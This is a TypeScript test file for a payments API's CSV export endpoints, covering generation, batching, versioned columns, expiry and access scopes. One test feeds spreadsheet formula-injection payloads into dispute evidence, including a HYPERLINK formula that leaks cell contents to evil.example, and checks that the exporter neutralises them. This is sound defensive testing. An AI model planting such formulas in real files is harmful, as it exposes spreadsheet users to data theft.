// Exports over HTTP: create, list, retrieve; generation by the job (called directly) into a CSV whose columns are the
// resource's fields at the creator's pin; the download link; retention by a clock the test controls; scopes.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { startTestApp, type TestApp } from '../helpers/harness.js';
import { makeKey, makeOwner, makeUser } from '../helpers/fixtures.js';
import { jobsOf, makeSeller, makeVariant, pay } from '../payments/payment-fixtures.js';
import { makeMembership } from '../memberships/fixtures.js';
import { generateExport } from '../../handlers/exports/generate.js';
import { expireExports } from '../../handlers/exports/expire.js';
import { columnsAt, csvWriter } from '../../handlers/exports/csv-columns.js';
import { disputeOf, NETWORK_CARDS, paidWith, seller as disputeSeller } from '../disputes/dispute-fixtures.js';
import { useTemporaryStore, type FileEnv } from '../files/file-env.js';

const LATEST = '2026-09-06';
const PIN = '2026-07-20';
const t = suite('exports');
let app: TestApp;
let env: FileEnv;
let seller: Awaited<ReturnType<typeof makeSeller>>;
let paymentIds: string[];
t.before(async () => {
  app = await startTestApp();
  env = useTemporaryStore(app);
  seller = await makeSeller(app.db);
  const variant = await makeVariant(app, seller.accountId, { price: 1043 });
  paymentIds = [];
  for (let i = 0; i < 3; i++) paymentIds.push((await pay(app, seller, { plan_id: variant.id })).id);
});
t.after(async () => {
  env.restore();
  await app.close();
});

const create = (resource: string, token = seller.key, version = LATEST, accountId = seller.accountId) =>
  app.request('POST', '/exports', { token, version, body: { account_id: accountId, resource } });
const retrieve = (id: string, token = seller.key, version = LATEST) => app.request('GET', `/exports/${id}`, { token, version });

/** RFC 4180 enough for these files: quoted cells with doubled quotes, commas and newlines inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

async function downloadCsv(url: string): Promise<string[][]> {
  const res = await fetch(url);
  assert.is(res.status, 200);
  assert.is(res.headers.get('content-type'), 'text/csv');
  return parseCsv(await res.text());
}

t('pending -> processing -> completed: a CSV of the account\'s payments at the latest version', async () => {
  const created = await create('payments');
  assert.is(created.status, 201, JSON.stringify(created.body));
  const e = created.body;
  assert.match(e.id, /^exprt_/);
  assert.is(e.status, 'pending');
  assert.is(e.api_version, LATEST);
  for (const f of ['download_url', 'file_id', 'row_count', 'completed_at', 'expires_at']) assert.is(e[f], null, f);

  await generateExport(app.db, e.id);
  const done = (await retrieve(e.id)).body;
  assert.is(done.status, 'completed');
  assert.is(done.row_count, 3);
  assert.match(done.file_id, /^file_/);
  assert.ok(done.started_at && done.completed_at);
  assert.is(Date.parse(done.expires_at) - Date.parse(done.completed_at), 30 * 24 * 3600 * 1000);
  assert.match(done.download_url, /\/downloads\/file_\w+\/payments-exprt_\w+\.csv\?expires=\d+&signature=/);

  const rows = await downloadCsv(done.download_url);
  assert.equal(rows[0], columnsAt('Payment', LATEST));
  assert.is(rows.length, 4);
  const id = rows[0].indexOf('id');
  assert.equal(rows.slice(1).map((r) => r[id]), paymentIds, 'oldest first');
  const account = rows[0].indexOf('account_id');
  assert.ok(account >= 0);
  assert.is(rows[1][account], seller.accountId);
  // Money objects are JSON cells, exactly as the API shows them.
  const total = JSON.parse(rows[1][rows[0].indexOf('total')]);
  assert.is(total.amount, 1043);
  // The same as GET /payments/{id} renders, field by field.
  const api = (await app.request('GET', `/payments/${paymentIds[0]}`, { token: seller.key, version: LATEST })).body;
  assert.is(rows[1][rows[0].indexOf('status')], api.status);
  assert.is(rows[1][rows[0].indexOf('created_at')], api.created_at);
  const event = await app.db('events').where({ type: 'export.completed' }).whereRaw("data->>'id' = ?", [e.id]).first();
  assert.is(event.account_id, seller.accountId);
  assert.is(event.data.status, 'completed');
  // Running the job again does nothing.
  await generateExport(app.db, e.id);
  assert.is((await retrieve(e.id)).body.file_id, done.file_id);
  assert.is((await app.db('files').where({ owner_account_id: seller.accountId })).length, 1);
  // The link without its signature is refused.
  assert.is((await fetch(done.download_url.split('?')[0])).status, 403);
});

t('rows read across keyset batches: every row once, oldest first, ties on created_at broken by id', async () => {
  // Two of the payments share their creation instant, across a batch boundary of two rows.
  await app.db('payments').where({ id: paymentIds[2] }).update({ created_at: (await app.db('payments').where({ id: paymentIds[1] }).first()).created_at }); // sql-state-write: a same-millisecond created_at tie across a batch boundary, which real payments cannot be made to produce
  const expected = await app.db('payments').where({ account_id: seller.accountId }).orderBy(['created_at', 'id']).pluck('id');
  try {
    for (const size of ['1', '2', '3']) {
      process.env.EXPORT_BATCH_ROWS = size;
      const e = (await create('payments')).body;
      await generateExport(app.db, e.id);
      const done = (await retrieve(e.id)).body;
      const rows = await downloadCsv(done.download_url);
      assert.equal(rows.slice(1).map((r) => r[rows[0].indexOf('id')]), expected, `batches of ${size}`);
    }
  } finally {
    delete process.env.EXPORT_BATCH_ROWS;
  }
});

t('at the official client\'s pin the columns and cells are that version\'s (company_id, decimal money)', async () => {
  const e = (await create('payments', seller.key, PIN)).body;
  assert.is(e.api_version, PIN);
  await generateExport(app.db, e.id);
  const done = (await retrieve(e.id, seller.key, PIN)).body;
  const rows = await downloadCsv(done.download_url);
  assert.equal(rows[0], columnsAt('Payment', PIN));
  assert.ok(rows[0].includes('company_id'));
  assert.not.ok(rows[0].includes('account_id'));
  assert.is(rows[1][rows[0].indexOf('total')], '10.43');
});

t('formula injection: text cells that a spreadsheet would run are written behind a single quote', async () => {
  // A buyer's dispute evidence is text the seller's spreadsheet opens: at the official client's pin it is flat cells.
  const s = await disputeSeller(app);
  const d = await disputeOf(app, (await paidWith(app, s, NETWORK_CARDS.chargeback)).id);
  const evidence = {
    customer_name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    notes: '@SUM(1+1)',
    product_description: '+1+1',
    access_activity_log: '-2+3',
    billing_address: '\t=1+1',
    refund_refusal_explanation: '\r=1+1',
    cancellation_policy_disclosure: '\uFF1D1+1',
    refund_policy_disclosure: 'Refunds within 30 days; =not at the start',
  };
  const upd = await app.request('POST', `/disputes/${d.id}/update_evidence`, { token: s.key, version: PIN, body: evidence });
  assert.is(upd.status, 200, JSON.stringify(upd.body));
  const e = (await create('disputes', s.key, PIN, s.accountId)).body;
  await generateExport(app.db, e.id);
  const rows = await downloadCsv((await retrieve(e.id, s.key, PIN)).body.download_url);
  assert.is(rows.length, 2);
  const cell = (column: string) => rows[1][rows[0].indexOf(column)];
  assert.is(cell('customer_name'), `'${evidence.customer_name}`);
  assert.is(cell('notes'), "'@SUM(1+1)");
  assert.is(cell('product_description'), "'+1+1");
  assert.is(cell('access_activity_log'), "'-2+3");
  assert.is(cell('billing_address'), "'\t=1+1");
  assert.is(cell('refund_refusal_explanation'), "'\r=1+1");
  assert.is(cell('cancellation_policy_disclosure'), "'\uFF1D1+1");
  // Only the first character matters; other text, ids and numbers are as the API shows them.
  assert.is(cell('refund_policy_disclosure'), evidence.refund_policy_disclosure);
  assert.is(cell('reason'), 'fraudulent');
  assert.is(cell('id'), d.id);
  assert.is(cell('amount'), '100');
  // At the latest version the evidence is one object: a JSON cell, which begins with '{' and is left as it is.
  const latest = (await create('disputes', s.key, LATEST, s.accountId)).body;
  await generateExport(app.db, latest.id);
  const now = await downloadCsv((await retrieve(latest.id, s.key)).body.download_url);
  assert.equal(JSON.parse(now[1][now[0].indexOf('evidence')]).customer_name, evidence.customer_name);
});

t('the CSV writer: a negative number stays a number; the same text is neutralised', async () => {
  const writer = csvWriter(['amount', 'label']);
  const out: string[] = [];
  writer.on('data', (chunk: Buffer) => out.push(chunk.toString()));
  const ended = new Promise((resolve) => writer.on('end', resolve));
  writer.write([-10.43, '-10.43']);
  writer.write([-1043, 'plain']);
  writer.write([0, '']);
  writer.end();
  await ended;
  assert.equal(parseCsv(out.join('')), [['amount', 'label'], ['-10.43', "'-10.43"], ['-1043', 'plain'], ['0', '']]);
});

t('memberships export: another resource, its own columns', async () => {
  const buyer = await makeUser(app.db);
  await makeMembership(app, seller.accountId, buyer.id);
  const e = (await create('memberships')).body;
  await generateExport(app.db, e.id);
  const done = (await retrieve(e.id)).body;
  // Each payment above granted one too.
  const stored = await app.db('memberships').where({ account_id: seller.accountId }).orderBy(['created_at', 'id']).pluck('id');
  assert.is(done.row_count, stored.length);
  const rows = await downloadCsv(done.download_url);
  assert.equal(rows[0], columnsAt('Membership', LATEST));
  assert.equal(rows.slice(1).map((r) => r[rows[0].indexOf('id')]), stored);
});

t('an account with nothing to export gets a file with the header only', async () => {
  const e = (await create('disputes')).body;
  await generateExport(app.db, e.id);
  const done = (await retrieve(e.id)).body;
  assert.is(done.row_count, 0);
  const rows = await downloadCsv(done.download_url);
  assert.equal(rows, [columnsAt('Dispute', LATEST)]);
});

t('30 days after finishing: expired, the file deleted (clock moved by the test)', async () => {
  const e = (await create('refunds')).body;
  await generateExport(app.db, e.id);
  const done = (await retrieve(e.id)).body;
  const file = await app.db('files').where({ id: done.file_id }).first();
  assert.ok((await env.objects()).includes(file.storage_key));
  const completed = Date.parse(done.completed_at);
  assert.equal(await expireExports(app.db, new Date(completed + 29 * 24 * 3600 * 1000)), []);
  assert.is((await retrieve(e.id)).body.status, 'completed');
  const expired = await expireExports(app.db, new Date(completed + 30 * 24 * 3600 * 1000 + 1));
  assert.ok(expired.includes(e.id));
  const after = (await retrieve(e.id)).body;
  assert.is(after.status, 'expired');
  assert.is(after.download_url, null);
  assert.is(after.file_id, null);
  assert.ok(after.expired_at);
  assert.is(await app.db('files').where({ id: done.file_id }).first(), undefined);
  assert.not.ok((await env.objects()).includes(file.storage_key));
  assert.is((await fetch(done.download_url)).status, 404);
  // A second run finds nothing.
  assert.not.ok((await expireExports(app.db, new Date(completed + 31 * 24 * 3600 * 1000))).includes(e.id));
});

t('an export whose completed_at is in the past is expired by the job\'s own clock', async () => {
  const e = (await create('members')).body;
  await generateExport(app.db, e.id);
  await app.db('exports').where({ id: e.id }).update({ completed_at: new Date(Date.now() - 31 * 24 * 3600 * 1000).toISOString() }); // sql-state-write: the case is the sweep's real-time default, which skips clocked accounts, so real time must have passed 30 days (the clock path is test/sandbox/clock-timed.test.ts)
  assert.ok((await expireExports(app.db)).includes(e.id));
  assert.is((await retrieve(e.id)).body.status, 'expired');
});

t('the generate job is queued with the export', async () => {
  const e = (await create('payments')).body;
  const jobs = await jobsOf(app, 'generate_export', e.id);
  assert.equal(jobs.map((j: any) => j.payload), [{ export_id: e.id }]);
});

t('list: newest first, filters, pages', async () => {
  const res = await app.request('GET', '/exports', { token: seller.key, version: LATEST, query: { account_id: seller.accountId } });
  assert.is(res.status, 200);
  const times = res.body.data.map((e: any) => e.created_at);
  assert.equal(times, [...times].sort().reverse());
  const payments = await app.request('GET', '/exports', { token: seller.key, version: LATEST, query: { account_id: seller.accountId, resource: 'payments', first: 1 } });
  assert.is(payments.body.data.length, 1);
  assert.is(payments.body.data[0].resource, 'payments');
  assert.ok(payments.body.page_info.has_next_page);
  const next = await app.request('GET', '/exports', { token: seller.key, version: LATEST, query: { account_id: seller.accountId, resource: 'payments', first: 10, after: payments.body.page_info.end_cursor } });
  assert.ok(next.body.data.length >= 2);
  assert.ok(next.body.data.every((e: any) => e.resource === 'payments'));
  const expired = await app.request('GET', '/exports', { token: seller.key, version: LATEST, query: { account_id: seller.accountId, status: 'expired' } });
  assert.ok(expired.body.data.length >= 2);
  assert.ok(expired.body.data.every((e: any) => e.status === 'expired'));
});

t('scopes: each resource its own export scope, on create, retrieve and list', async () => {
  const e = (await create('payments')).body;
  const viewer = (await makeKey(app.db, { accountId: seller.accountId, role: 'viewer' })).secret;
  const refused = await create('payments', viewer);
  assert.is(refused.status, 403);
  assert.match(refused.body.error.message, /payment:export/);
  assert.is((await retrieve(e.id, viewer)).status, 403);
  assert.is((await app.request('GET', '/exports', { token: viewer, version: LATEST, query: { account_id: seller.accountId } })).status, 403);

  const members = (await makeKey(app.db, { accountId: seller.accountId, statements: [{ effect: 'allow', actions: ['member:export'] }] })).secret;
  assert.is((await create('members', members)).status, 201);
  assert.is((await create('payments', members)).status, 403);
  assert.is((await retrieve(e.id, members)).status, 403);
  const listed = await app.request('GET', '/exports', { token: members, version: LATEST, query: { account_id: seller.accountId } });
  assert.is(listed.status, 200);
  assert.ok(listed.body.data.length > 0);
  assert.ok(listed.body.data.every((x: any) => x.resource === 'members'));
});

t('another account\'s export and account are 404s', async () => {
  const e = (await create('payments')).body;
  const other = await makeOwner(app.db);
  const res = await retrieve(e.id, other.key);
  assert.is(res.status, 404);
  assert.is(res.body.error.type, 'not_found');
  const theirs = await create('payments', other.key, LATEST, seller.accountId);
  assert.is(theirs.status, 404);
  assert.is((await app.request('GET', '/exports', { token: other.key, version: LATEST, query: { account_id: seller.accountId } })).status, 404);
});

t('bad input names the field', async () => {
  const res = await create('invoices');
  assert.is(res.status, 400);
  assert.is(res.body.error.param, 'resource');
  const missing = await app.request('GET', '/exports', { token: seller.key, version: LATEST });
  assert.is(missing.status, 400);
  assert.is(missing.body.error.param, 'account_id');
});

t.run();
